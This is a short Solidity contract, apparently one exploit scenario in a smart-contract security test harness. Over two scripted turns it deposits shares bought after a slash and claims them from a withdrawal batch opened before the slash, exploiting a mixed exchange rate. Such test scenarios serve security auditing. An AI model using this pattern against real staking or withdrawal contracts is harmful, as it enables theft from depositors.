// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Exploit, Scene} from "../Exploit.sol";

/// @title Into an old batch with new shares
/// @notice Buys shares after the slash and puts them into the batch that was opened before it.
contract MixedRateBatch is Exploit {
    uint256 private _ticket;

    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        if (number == 2) _ticket = _request(_deposit(address(this).balance));
        if (number == 3) queue.claim(_ticket, address(this));
    }
}
